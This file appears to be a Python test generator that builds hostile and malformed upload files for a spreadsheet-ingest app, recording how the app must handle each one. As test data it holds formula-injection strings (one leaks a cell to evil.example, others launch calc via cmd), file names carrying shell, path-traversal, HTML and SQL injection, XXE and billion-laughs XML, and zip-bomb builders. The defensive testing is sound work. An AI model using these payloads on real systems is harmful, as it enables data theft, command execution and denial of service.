"""Generate the corpus of malformed and hostile upload files Floorline must survive.

    python tests/hostile/make_corpus.py OUTPUT_FOLDER

writes every file into OUTPUT_FOLDER, plus ``manifest.json`` saying, for each, what Floorline
must do with it. Nothing here is committed as data: the files are built from code each time
(``tests/hostile/test_hostile_files.py`` calls ``write_corpus`` into a temporary folder).

Two kinds of case:

- **refused**: the upload is refused with a message that starts with the file's name and
  contains ``reason``; where the fault sits in one cell, the message names that ``row`` (as a
  spreadsheet shows it: the header is row 1) and ``column``. Nothing stored may change.
- **accepted**: fine data in a hostile dress (a file name full of path separators and shell
  or HTML characters, cells that a spreadsheet would run as formulas). Floorline must store
  it safely: the archive path comes from the file's hash, the name is kept as text, formulas
  come back neutralised in downloads. ``check`` names what the test verifies.

``isolated`` cases (compression bombs) are ingested in a child process with a memory limit,
so a regression cannot take the test machine down with it.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import random
import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path

SLA_HEADER = [
    "Ticket ID",
    "Ticket form",
    "SLA metric",
    "SLA metric status",
    "SLA target status",
    "Time - SLA status update - Date",
    "Preferred Region for Support",
]
DATE_COLUMN = "Time - SLA status update - Date"
AGGREGATE_HEADER = ["Week", "Segment", "Metric", "Good", "Total"]
PERCENT_HEADER = ["Week", "Segment", "Metric", "Percentage"]

# One complete week (Monday 2026-09-07 to Sunday 2026-09-13): the first and last day carry an
# out-of-scope row so the export's dates span the whole week.
GOOD_ROWS = [
    ["5001", "SaaS", "Requester wait time", "Completed", "Achieved", "2026-09-07", "EMEA"],
    ["5002", "SaaS", "First reply time", "Completed", "Achieved", "2026-09-08", "EMEA"],
    ["5003", "Self-Managed", "First reply time", "Completed", "Breached", "2026-09-09", "Americas, USA"],
    ["5004", "L&R", "Next reply time", "Completed", "Achieved", "2026-09-10", "Asia Pacific"],
    ["5005", "SaaS", "Requester wait time", "Completed", "Achieved", "2026-09-13", "EMEA"],
]
WEEK = "2026-09-07"
GOOD_ROW = ["5100", "SaaS", "First reply time", "Completed", "Achieved", "2026-09-08", "EMEA"]

# Text a spreadsheet would run as a formula, planted in every text column a file can carry.
FORMULAS = {
    "form": '=HYPERLINK("http://evil.example/?leak="&A1,"SaaS")',
    "region": "+cmd|' /C calc'!A0",
    "ticket": "@SUM(1+1)*cmd|' /C calc'!A0",
    "group": "-2+3+cmd|' /C calc'!A0",
    "file name": '=HYPERLINK("http://evil.example/","export").csv',
}
HOSTILE_NAMES = {
    "accepted-name-parent-dirs": "../../x.csv",
    "accepted-name-absolute-path": "/etc/cron.d/floorline.csv",
    "accepted-name-backslashes": "..\\..\\Windows\\System32\\evil.csv",
    "accepted-name-shell": "$(touch pwned); rm -rf ~ `id` | tee x.csv",
    "accepted-name-html": '<img src=x onerror="alert(1)"><script>alert(2)</script>.csv',
    "accepted-name-sql": "x'); DROP TABLE uploads; --.csv",
}


@dataclass(frozen=True)
class Case:
    """One corpus file and what Floorline must do with it."""

    id: str  # test id: starts with "refused-" or "accepted-"
    file: str  # the file's name in the corpus folder (always a plain name)
    upload_name: str  # the name the browser sends with it (may be hostile)
    refused: bool
    reason: str = ""  # words the refusal must contain
    row: int | None = None
    column: str | None = None
    isolated: bool = False
    check: str = ""  # for accepted cases: what the test verifies besides rows and weeks
    rows_used: int | None = None  # for accepted cases: the rows counted, and the one week stored
    complete: bool | None = None  # ... and whether the export covers that week completely
    why: str = ""
    max_seconds: float | None = None  # for isolated cases: how long refusing it may take


# --- builders -------------------------------------------------------------------------------


def csv_bytes(
    header: list[str], rows: list[list[str]], delimiter: str = ",", encoding: str = "utf-8", quoting=csv.QUOTE_MINIMAL
) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\n", quoting=quoting)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


def sla_with(bad_row: list[str]) -> bytes:
    """A valid row at spreadsheet row 2, the faulty one at row 3."""
    return csv_bytes(SLA_HEADER, [GOOD_ROW, bad_row])


def sla_row(**changes: str) -> list[str]:
    row = dict(zip(SLA_HEADER, GOOD_ROW, strict=True))
    names = {
        "ticket": "Ticket ID",
        "form": "Ticket form",
        "metric": "SLA metric",
        "metric_status": "SLA metric status",
        "status": "SLA target status",
        "date": DATE_COLUMN,
        "region": "Preferred Region for Support",
    }
    for field, value in changes.items():
        row[names[field]] = value
    return list(row.values())


def aggregate_with(bad: list[str], header: list[str] = AGGREGATE_HEADER) -> bytes:
    good = ["2026-08-31", "GitLab SaaS", "FRT", "95", "100"] if header == AGGREGATE_HEADER else None
    good = good or ["2026-08-31", "GitLab SaaS", "FRT", "95"]
    return csv_bytes(header, [good, bad])


XLSX_CONTENT_TYPES = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/xl/workbook.xml"
 ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml"
 ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
</Types>"""
XLSX_ROOT_RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Target="xl/workbook.xml"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>
</Relationships>"""
XLSX_WORKBOOK = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
<sheets><sheet name="Export" sheetId="1" r:id="rId1"/></sheets></workbook>"""
XLSX_WORKBOOK_RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Target="worksheets/sheet1.xml"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>
</Relationships>"""
SHEET_PATH = "xl/worksheets/sheet1.xml"
SHEET_OPEN = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
SHEET_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def column_letter(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def sheet_row(number: int, cells: list[str]) -> str:
    parts = [
        f'<c r="{column_letter(i)}{number}" t="inlineStr"><is><t>{xml_escape(value)}</t></is></c>'
        for i, value in enumerate(cells)
        if value != ""
    ]
    return f'<row r="{number}">{"".join(parts)}</row>'


def sheet_xml(rows: list[list[str]], *, dimension: str | None = None, doctype: str = "") -> str:
    body = "".join(sheet_row(number, cells) for number, cells in enumerate(rows, start=1))
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return f"{SHEET_OPEN}{doctype}<worksheet {SHEET_NS}>{dim}<sheetData>{body}</sheetData></worksheet>"


def xlsx_bytes(sheet: str | bytes | None, *, workbook: str = XLSX_WORKBOOK, sheet_stored: bool = False) -> bytes:
    """A minimal workbook written part by part, so a test can put anything in any part."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", XLSX_CONTENT_TYPES)
        archive.writestr("_rels/.rels", XLSX_ROOT_RELS)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", XLSX_WORKBOOK_RELS)
        if sheet is not None:
            archive.writestr(SHEET_PATH, sheet, zipfile.ZIP_STORED if sheet_stored else zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def corrupt_stored_sheet(workbook: bytes, old: bytes, new: bytes) -> bytes:
    """Change bytes inside the stored (uncompressed) sheet, leaving its CRC-32 as it was: a damaged file."""
    assert len(old) == len(new) and workbook.count(old) == 1
    return workbook.replace(old, new)


# --- the compression bomb -------------------------------------------------------------------
# Deflate cannot shrink data more than about 1000 to 1, so gigabytes of sheet take megabytes
# however they are written; compressing gigabytes would also take the test suite minutes. A
# "full flush" makes a compressed block independent of what came before, so one 16 MiB block
# of whitespace, compressed once, is written as many times as needed. The CRC-32 of the
# repeated block comes from zlib's crc32_combine, done here in Python.


def _gf2_times(matrix: list[int], vector: int) -> int:
    total, index = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[index]
        vector >>= 1
        index += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, matrix[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, length2: int) -> int:
    """CRC-32 of A + B from crc(A), crc(B) and len(B) (zlib's algorithm)."""
    if length2 == 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = _gf2_square(odd)
    odd = _gf2_square(even)
    while True:
        even = _gf2_square(odd)
        if length2 & 1:
            crc1 = _gf2_times(even, crc1)
        length2 >>= 1
        if not length2:
            break
        odd = _gf2_square(even)
        if length2 & 1:
            crc1 = _gf2_times(odd, crc1)
        length2 >>= 1
        if not length2:
            break
    return crc1 ^ crc2


def repeated_crc(block_crc: int, block_length: int, count: int) -> tuple[int, int]:
    """(CRC-32, length) of a block repeated ``count`` times, by doubling."""
    result_crc, result_length = 0, 0
    power_crc, power_length = block_crc, block_length
    while count:
        if count & 1:
            result_crc = crc32_combine(result_crc, power_crc, power_length)
            result_length += power_length
        power_crc = crc32_combine(power_crc, power_crc, power_length)
        power_length *= 2
        count >>= 1
    return result_crc, result_length


def full_flush(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)


def write_repeated_member(archive: zipfile.ZipFile, name: str, head: bytes, block: bytes, count: int, tail: bytes):
    """Write the member head + block * count + tail, compressing the block once (see above)."""
    packed_head, packed_block = full_flush(head), full_flush(block)
    finisher = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed_tail = finisher.compress(tail) + finisher.flush()
    blocks_crc, blocks_length = repeated_crc(zlib.crc32(block), len(block), count)
    crc = crc32_combine(crc32_combine(zlib.crc32(head), blocks_crc, blocks_length), zlib.crc32(tail), len(tail))
    # zipfile can stream a member only by compressing it itself; the precompressed member is
    # written the way ZipFile.writestr writes one, header first (ZIP64: sizes over 4 GB are fine).
    info = zipfile.ZipInfo(name, date_time=(2026, 11, 23, 9, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    info.file_size = len(head) + blocks_length + len(tail)
    info.compress_size = len(packed_head) + count * len(packed_block) + len(packed_tail)
    info.CRC = crc
    info.header_offset = archive.fp.tell()
    archive.fp.write(info.FileHeader(zip64=True))
    archive.fp.write(packed_head)
    for _ in range(count):
        archive.fp.write(packed_block)
    archive.fp.write(packed_tail)
    archive.filelist.append(info)
    archive.NameToInfo[info.filename] = info
    archive.start_dir = archive.fp.tell()


def bomb_xlsx(path: Path, unpacked_bytes: int) -> None:
    """A valid workbook whose one sheet is a real header and row followed by gigabytes of whitespace."""
    head = sheet_xml([SLA_HEADER, GOOD_ROW]).removesuffix("</sheetData></worksheet>").encode()
    tail = b"</sheetData></worksheet>"
    block = b" " * (16 * 1024 * 1024)
    count = max(1, (unpacked_bytes - len(head) - len(tail)) // len(block))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", XLSX_CONTENT_TYPES)
        archive.writestr("_rels/.rels", XLSX_ROOT_RELS)
        archive.writestr("xl/workbook.xml", XLSX_WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", XLSX_WORKBOOK_RELS)
        write_repeated_member(archive, SHEET_PATH, head, block, count, tail)


def shared_strings_bomb_xlsx(unpacked_bytes: int) -> bytes:
    """A workbook whose shared-string table (which openpyxl holds in memory whole) is ~140 MB of short
    strings, packed 12 to 1: the whole-workbook ratio check alone lets it through."""
    generator = random.Random(4)
    strings = "".join(f"<si><t>Support ticket form {generator.getrandbits(16):04x}</t></si>" for _ in range(100_000))
    block = strings.encode()
    head = b'<?xml version="1.0" encoding="UTF-8"?><sst ' + SHEET_NS.encode() + b">"
    tail = b"</sst>"
    sheet = sheet_xml([SLA_HEADER, *GOOD_ROWS])
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", XLSX_CONTENT_TYPES.replace("</Types>", SHARED_STRINGS_TYPE))
        archive.writestr("_rels/.rels", XLSX_ROOT_RELS)
        archive.writestr("xl/workbook.xml", XLSX_WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", XLSX_WORKBOOK_RELS.replace("</Relationships>", SHARED_REL))
        archive.writestr(SHEET_PATH, sheet)
        write_repeated_member(archive, "xl/sharedStrings.xml", head, block, unpacked_bytes // len(block), tail)
    return buffer.getvalue()


SHARED_STRINGS_TYPE = """<Override PartName="/xl/sharedStrings.xml"
 ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>"""
SHARED_REL = """<Relationship Id="rId2" Target="sharedStrings.xml"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/></Relationships>"""


def ratio_bomb_xlsx(unpacked_bytes: int) -> bytes:
    """A workbook of ~60 MB of sheet (blank rows) packed a thousand to one: small, but no export looks like it."""
    rows = [sheet_row(1, SLA_HEADER), sheet_row(2, GOOD_ROW)]
    head = f"{SHEET_OPEN}<worksheet {SHEET_NS}><sheetData>{''.join(rows)}"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", XLSX_CONTENT_TYPES)
        archive.writestr("_rels/.rels", XLSX_ROOT_RELS)
        archive.writestr("xl/workbook.xml", XLSX_WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", XLSX_WORKBOOK_RELS)
        with archive.open(SHEET_PATH, "w") as sheet:
            sheet.write(head.encode())
            sheet.write(b"\n" * unpacked_bytes)
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


# --- small binary files ---------------------------------------------------------------------


def png_bytes() -> bytes:
    """A real 1x1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def noise(size: int, seed: int) -> bytes:
    data = random.Random(seed).randbytes(size)
    return b"\x07" + data  # never starts like a known format by chance


def ole_bytes() -> bytes:
    """The first sector of an old .xls (OLE compound file) header."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff" + b"\x00" * 482


# --- workbooks of several sheets, formulas, stray notes, wide rows ---------------------------


def workbook_of(sheets: list[tuple[str, str, str]], active: int = 0) -> bytes:
    """A workbook of several sheets: (name, state, sheet XML) each; ``active`` is the tab Excel opens."""
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{n}.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for n in range(1, len(sheets) + 1)
    )
    content_types = re.sub(r'<Override PartName="/xl/worksheets/sheet1.xml"[^>]*/>', overrides, XLSX_CONTENT_TYPES)
    entries = "".join(
        f'<sheet name="{xml_escape(name)}" sheetId="{n}" r:id="rId{n}"'
        + ("" if state == "visible" else f' state="{state}"')
        + "/>"
        for n, (name, state, _) in enumerate(sheets, start=1)
    )
    workbook = XLSX_WORKBOOK.replace(
        '<sheets><sheet name="Export" sheetId="1" r:id="rId1"/></sheets>',
        f'<bookViews><workbookView activeTab="{active}"/></bookViews><sheets>{entries}</sheets>',
    )
    relations = "".join(
        f'<Relationship Id="rId{n}" Target="worksheets/sheet{n}.xml" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>'
        for n in range(1, len(sheets) + 1)
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", XLSX_ROOT_RELS)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            re.sub(r"<Relationship Id=\"rId1\".*?/>", relations, XLSX_WORKBOOK_RELS, flags=re.S),
        )
        for n, (_, _, xml) in enumerate(sheets, start=1):
            archive.writestr(f"xl/worksheets/sheet{n}.xml", xml)
    return buffer.getvalue()


def with_cell(xml: str, reference: str, cell: str) -> str:
    """Replace the inline-string cell at ``reference`` with raw cell XML."""
    replaced, count = re.subn(rf'<c r="{reference}" t="inlineStr"><is><t>[^<]*</t></is></c>', cell, xml)
    assert count == 1, reference
    return replaced


def with_stray(xml: str, reference: str, text: str) -> str:
    """Add a lone text cell at ``reference`` (in its own row when that row does not exist yet)."""
    row = int(re.sub(r"[A-Z]+", "", reference))
    cell = f'<c r="{reference}" t="inlineStr"><is><t>{xml_escape(text)}</t></is></c>'
    if f'<row r="{row}">' in xml:
        return re.sub(rf'(<row r="{row}">.*?)</row>', lambda m: m[1] + cell + "</row>", xml, count=1)
    return xml.replace("</sheetData>", f'<row r="{row}">{cell}</row></sheetData>')


def wide_row_xlsx(cells: int, *, row: int, dimension: str | None = None) -> bytes:
    """A workbook of a few hundred kilobytes whose row ``row`` holds ``cells`` cells (no references)."""
    rows = [SLA_HEADER, *GOOD_ROWS * 60][: row - 1]
    head = sheet_xml(rows, dimension=dimension).removesuffix("</sheetData></worksheet>")
    wide = f'<row r="{row}">' + "<c><v>1</v></c>" * cells + "</row>"
    return xlsx_bytes(head + wide + "</sheetData></worksheet>")


def crlf(data: bytes) -> bytes:
    return data.replace(b"\n", b"\r\n")


# --- the corpus -----------------------------------------------------------------------------


def corpus() -> list[tuple[Case, Callable[[], bytes] | bytes | None]]:
    """Every case with its bytes, or a function making them (large ones are made only when written).

    None stands for the gigabyte bomb, which ``bomb_xlsx`` streams to disk.
    """
    header_only = csv_bytes(SLA_HEADER, [])
    valid = csv_bytes(SLA_HEADER, GOOD_ROWS)
    good_line = b"5100,SaaS,First reply time,Completed,Achieved,2026-09-08,EMEA\n"
    ten_thousand = [f"Field {i}" for i in range(10_000)]
    cases: list[tuple[Case, Callable[[], bytes] | bytes | None]] = []

    def refused(
        case_id,
        name,
        data,
        reason,
        *,
        row=None,
        column=None,
        upload_name=None,
        isolated=False,
        why="",
        max_seconds=None,
    ):
        case = Case(case_id, name, upload_name or name, True, reason, row, column, isolated, why=why,
                    max_seconds=max_seconds)  # fmt: skip
        cases.append((case, data))

    def accepted(case_id, name, data, check="", *, upload_name=None, rows_used=3, complete=True, why=""):
        case = Case(
            case_id, name, upload_name or name, False, check=check, rows_used=rows_used, complete=complete, why=why
        )
        cases.append((case, data))

    # Files that are not exports at all.
    refused("refused-empty", "empty.csv", b"", "the file is empty")
    refused("refused-blank-lines-only", "blank.csv", b"\r\n\n   \n\t\n", "the file has no rows")
    refused("refused-utf8-bom-only", "bom.csv", codecs.BOM_UTF8, "the file has no rows")
    refused("refused-header-only", "header_only.csv", header_only, "the file has a header but no data rows")
    refused(
        "refused-title-rows-and-header-only",
        "titled_header_only.csv",
        b"Zendesk Explore: SLA achievement\nGenerated 2026-09-14\n\n" + header_only,
        "the file has a header but no data rows",
    )
    refused("refused-binary-noise", "noise.csv", noise(64 * 1024, seed=8), "binary data")
    refused("refused-png-renamed-csv", "chart.csv", png_bytes(), "this is a PNG image")
    refused("refused-pdf-renamed-csv", "report.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "PDF")
    refused("refused-gzip-renamed-csv", "export.csv.csv", b"\x1f\x8b\x08\x00" + zlib.compress(valid), "gzip")
    refused("refused-old-xls", "export.xls.csv", ole_bytes(), "old-style Excel")
    refused(
        "refused-zip-not-a-workbook",
        "archive.xlsx",
        zip_of({"readme.txt": b"hello", "export.csv": valid}),
        "this ZIP archive is not an Excel workbook",
    )
    refused("refused-zip-damaged", "damaged.xlsx", b"PK\x03\x04" + noise(2048, seed=3), "damaged")

    # Workbooks: empty, damaged, hostile XML, bombs.
    empty_sheet = xlsx_bytes(sheet_xml([]))
    refused("refused-xlsx-no-rows", "empty_sheet.xlsx", empty_sheet, "every sheet in the workbook is empty")
    refused(
        "refused-xlsx-header-only",
        "header_only.xlsx",
        xlsx_bytes(sheet_xml([SLA_HEADER])),
        "the file has a header but no data rows",
    )
    refused(
        "refused-xlsx-missing-sheet-part",
        "no_sheet_part.xlsx",
        xlsx_bytes(None),
        "every sheet in the workbook is empty",
        why="workbook.xml names a sheet whose part is not in the archive (openpyxl skips it)",
    )
    truncated = sheet_xml([SLA_HEADER, *GOOD_ROWS * 40])
    refused(
        "refused-xlsx-truncated-sheet-xml",
        "truncated.xlsx",
        xlsx_bytes(truncated[: len(truncated) // 2]),
        "the workbook cannot be",
    )
    stored = xlsx_bytes(sheet_xml([SLA_HEADER, *GOOD_ROWS]), sheet_stored=True)
    refused(
        "refused-xlsx-crc-mismatch",
        "bad_crc.xlsx",
        corrupt_stored_sheet(stored, b"Asia Pacific", b"Asia Pacifix"),
        "the workbook cannot be",
        why="one byte of the sheet changed after the ZIP recorded its checksum",
    )
    # a = "ha", b = ten a's, c = ten b's, ... j = a thousand million "ha"s, from a few hundred bytes.
    entities = "".join(f'<!ENTITY {chr(99 + i)} "{("&" + chr(98 + i) + ";") * 10}">' for i in range(8))
    laughs = f'<!DOCTYPE worksheet [<!ENTITY a "ha"><!ENTITY b "{"&a;" * 10}">{entities}]>'
    laughing_sheet = sheet_xml([SLA_HEADER, sla_row(form="&j;")], doctype=laughs).replace("&amp;j;", "&j;")
    refused(
        "refused-xlsx-billion-laughs-in-sheet",
        "laughs_sheet.xlsx",
        xlsx_bytes(laughing_sheet),
        "the workbook cannot be",
        why="XML entity expansion: gigabytes of text from a few hundred bytes",
    )
    laughing_workbook = XLSX_WORKBOOK.replace(
        '<workbook xmlns="', laughs.replace("worksheet", "workbook") + '<workbook xmlns="', 1
    ).replace('name="Export"', 'name="&j;"')
    refused(
        "refused-xlsx-billion-laughs-in-workbook",
        "laughs_workbook.xlsx",
        xlsx_bytes(sheet_xml([SLA_HEADER, *GOOD_ROWS]), workbook=laughing_workbook),
        "the workbook cannot be opened",
    )
    external = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    refused(
        "refused-xlsx-external-entity",
        "xxe.xlsx",
        xlsx_bytes(sheet_xml([SLA_HEADER, sla_row(form="&xxe;")], doctype=external).replace("&amp;xxe;", "&xxe;")),
        "the workbook cannot be",
        why="an XML external entity pointing at /etc/passwd must never be read",
    )
    formula_sheet = sheet_xml([SLA_HEADER, GOOD_ROW, sla_row(status="PLACEHOLDER")]).replace(
        '<c r="E3" t="inlineStr"><is><t>PLACEHOLDER</t></is></c>', '<c r="E3"><f>"Achie"&amp;"ved"</f></c>'
    )
    refused(
        "refused-xlsx-formula-without-cached-value",
        "formula_status.xlsx",
        xlsx_bytes(formula_sheet),
        "open the workbook in Excel and save it, or export it again",
        row=3,
        column="SLA target status",
        why="a formula cell is read as its saved value, never evaluated; this one has none",
    )
    refused(
        "refused-xlsx-bomb-gigabytes",
        "bomb.xlsx",
        None,
        "compression bomb",
        isolated=True,
        why="2 MB that unpacks to 2.3 GB of sheet XML",
    )
    refused(
        "refused-xlsx-bomb-ratio",
        "ratio_bomb.xlsx",
        lambda: ratio_bomb_xlsx(60 * 1024 * 1024),
        "compression bomb",
        isolated=True,
        why="60 MB of sheet packed a thousand to one",
    )
    refused(
        "refused-xlsx-shared-strings-over-128-mb",
        "shared_strings.xlsx",
        lambda: shared_strings_bomb_xlsx(144 * 1024 * 1024),
        "the workbook's xl/sharedStrings.xml would unpack to 141 MB",
        isolated=True,
        why="openpyxl holds the shared-string table in memory whole: a few MB could cost gigabytes",
    )
    truncated_after_dimension = sheet_xml([SLA_HEADER, *GOOD_ROWS * 40], dimension="A1:G201")
    refused(
        "refused-xlsx-truncated-sheet-xml-after-its-dimension",
        "truncated_dimension.xlsx",
        xlsx_bytes(truncated_after_dimension[: len(truncated_after_dimension) // 2]),
        "the workbook cannot be read",
        why="openpyxl finds the fault only while reading the rows",
    )
    far_cells = re.sub(
        r'<row r="(\d+)">(.*?)</row>',
        lambda row: f'<row r="{row[1]}">{row[2]}<c r="XFD{row[1]}" t="inlineStr"><is><t>far</t></is></c></row>',
        sheet_xml([SLA_HEADER, *GOOD_ROWS]),
    )
    refused(
        "refused-xlsx-cell-in-column-16384",
        "far_column.xlsx",
        xlsx_bytes(far_cells),
        "the header has 16,384 columns",
        row=1,
        why="a cell in the last column Excel allows, on every row",
    )

    # Lines and columns no export has.
    refused(
        "refused-first-line-10mb",
        "long_line.csv",
        lambda: b"Ticket ID," + b"x" * (10 * 1024 * 1024) + b"\n" + valid,
        "the line is longer than 2 MB, the line-length limit",
        row=1,
    )
    long_cell = b'5100,SaaS,First reply time,Completed,Achieved,2026-09-08,"' + b"y" * (10 * 1024 * 1024) + b'"\n'
    refused("refused-data-line-10mb", "long_row.csv", lambda: header_only + long_cell, "longer than 2 MB", row=2)
    refused(
        "refused-10000-unknown-columns",
        "wide.csv",
        lambda: csv_bytes(ten_thousand, [[str(i) for i in range(10_000)]]),
        "the header has 10,000 columns",
        row=1,
    )
    refused(
        "refused-10000-columns-beside-a-valid-export",
        "wide_valid.csv",
        lambda: csv_bytes(SLA_HEADER + ten_thousand, [row + ["z"] * 10_000 for row in GOOD_ROWS]),
        "the header has 10,007 columns",
        row=1,
        why="DuckDB would need gigabytes of buffers for 10,000 columns, whatever the file's size",
    )
    refused(
        "refused-mixed-delimiters",
        "mixed.csv",
        header_only + good_line + b"5101;SaaS;First reply time;Completed;Achieved;2026-09-08;EMEA\n" + good_line,
        "the SLA metric is empty",
        row=3,
        column="SLA metric",
        why="a comma-separated file with one row separated by semicolons",
    )
    refused(
        "refused-unbalanced-quotes",
        "quotes.csv",
        header_only + good_line + b'5101,"SaaS,First reply time,Completed,Achieved,2026-09-08,EMEA\n' + good_line,
        "a quoted value starts here and is never closed",
        row=3,
    )
    refused(
        "refused-too-many-fields",
        "extra_fields.csv",
        header_only + good_line.rstrip() + b",surprise,more\n",
        "fields but the header has 7",
        row=2,
    )

    # Encodings: UTF-8, UTF-16 and Windows-1252 are read (DECISIONS.md section 8); nothing else.
    text = valid.decode()
    refused("refused-utf32-le-bom", "utf32le.csv", b"\xff\xfe\x00\x00" + text.encode("utf-32-le"), "UTF-32")
    refused("refused-utf32-be-bom", "utf32be.csv", b"\x00\x00\xfe\xff" + text.encode("utf-32-be"), "UTF-32")
    refused("refused-utf32-le-no-bom", "utf32le_nobom.csv", text.encode("utf-32-le"), "NUL bytes")
    refused("refused-ebcdic", "ebcdic.csv", text.encode("cp500"), "encoding Floorline cannot read")
    refused(
        "refused-utf16-broken-surrogate",
        "utf16_broken.csv",
        codecs.BOM_UTF16_LE + text.encode("utf-16-le") + b"\x00\xd8\x41\x00",
        "is not valid UTF-16",
        why="a lone surrogate: the file claims UTF-16 and is not",
    )
    refused(
        "refused-invalid-utf8-after-the-first-two-megabytes",
        "late_bad_utf8.csv",
        lambda: (
            header_only
            + good_line * 40_000
            + b"5101,SaaS,First reply time,Completed,Achieved,2026-09-08,\xc3\x28\xa0\n"
        ),
        "not valid UTF-8",
        row=40_002,
    )
    refused("refused-nul-bytes", "nul.csv", valid.replace(b"Self-Managed", b"Self\x00Managed"), "NUL bytes")
    refused(
        "refused-nul-byte-after-first-4kb",
        "late_nul.csv",
        header_only + good_line * 200 + b"5101,Sa\x00aS,First reply time,Completed,Achieved,2026-09-08,EMEA\n",
        "binary data (a NUL byte)",
        row=202,
    )

    # Dates.
    for case_id, value, reason in [
        ("refused-date-in-the-future", "2099-01-05", "before 2000 or in the future"),
        ("refused-date-before-2000", "1999-12-31", "before 2000 or in the future"),
        ("refused-date-year-one", "0001-01-01", "before 2000 or in the future"),
        ("refused-date-impossible-feb-30", "2026-02-30", "'2026-02-30' is not a date"),
        ("refused-date-impossible-us-slash", "02/30/2026", "'02/30/2026' is not a date"),
        ("refused-date-month-13", "2026-13-01", "'2026-13-01' is not a date"),
        ("refused-date-infinity", "infinity", "before 2000 or in the future"),
        ("refused-date-words", "next Tuesday", "'next Tuesday' is not a date"),
    ]:
        refused(case_id, f"{case_id[8:]}.csv", sla_with(sla_row(date=value)), reason, row=3, column=DATE_COLUMN)
    refused(
        "refused-aggregate-week-in-the-future",
        "agg_future.csv",
        aggregate_with(["2099-01-05", "GitLab SaaS", "NRT", "9", "10"]),
        "before 2000 or in the future",
        row=3,
        column="Week",
    )
